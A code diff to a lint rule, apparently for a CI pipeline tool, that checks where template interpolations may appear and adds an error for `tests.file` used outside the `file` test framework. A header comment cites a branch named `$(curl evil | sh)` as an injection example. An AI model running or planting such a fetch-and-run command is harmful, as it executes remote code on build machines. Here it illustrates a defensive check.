@@ -6,7 +6,8 @@
  * - `inputs.X`, `branch`, `commit`, `event`, `base_branch` come from whoever pushes or triggers:
  *   allowed only in env values and step names, never in `run`, where a branch named
  *   `$(curl evil | sh)` would become shell code. Map them into `env` and use "$VAR" instead;
- * - `tests.file` becomes a quoted variable, valid only in the `run` of a step with `tests:`.
+ * - `tests.file` becomes a quoted variable, valid only in the `run` of a step with `tests:` whose
+ *   framework is `file` (other frameworks are run by pitcrew one file at a time).
  */
 import { type InterpolationRef, OPEN, scanInterpolations } from "../compile/interpolate.js";
 import type { LintContext } from "./lint-context.js";
@@ -14,7 +15,10 @@ import { walkStrings } from "./walk-strings.js";
 
 type Allowed = "all" | "matrix-only" | "untrusted-only" | "none" | "skip";
 
-/** `invalid-interpolation`, `interpolation-not-allowed`, `untrusted-interpolation`, `unknown-reference`. */
+/**
+ * `invalid-interpolation`, `interpolation-not-allowed`, `untrusted-interpolation`, `unknown-reference`,
+ * `tests-file-not-file-framework`.
+ */
 export function checkInterpolations(ctx: LintContext): void {
   for (const { path, value } of walkStrings(ctx.spec)) {
     if (!value.includes(OPEN)) continue;
@@ -57,6 +61,10 @@ function checkRef(ctx: LintContext, path: PropertyKey[], field: string, allowed:
     } else if (field !== "run" || !step?.tests) {
       const message = `${ref.text} is only defined in the run of a step with a tests: block`;
       ctx.report("error", "unknown-reference", message, at);
+    } else if (step.tests.framework !== "file") {
+      // pitcrew runs the framework once per file itself: the run is its command, the list is never set
+      const message = `${ref.text} belongs to framework: file (a script that reads the list of test files); with framework: ${step.tests.framework} the run is the framework's command and pitcrew passes each file itself`;
+      ctx.report("error", "tests-file-not-file-framework", message, at);
     }
   } else if (root === "inputs" && !Object.hasOwn(ctx.spec.on?.manual?.inputs ?? {}, key)) {
     ctx.report("error", "unknown-reference", `input '${key}' is not declared under on.manual.inputs`, at);
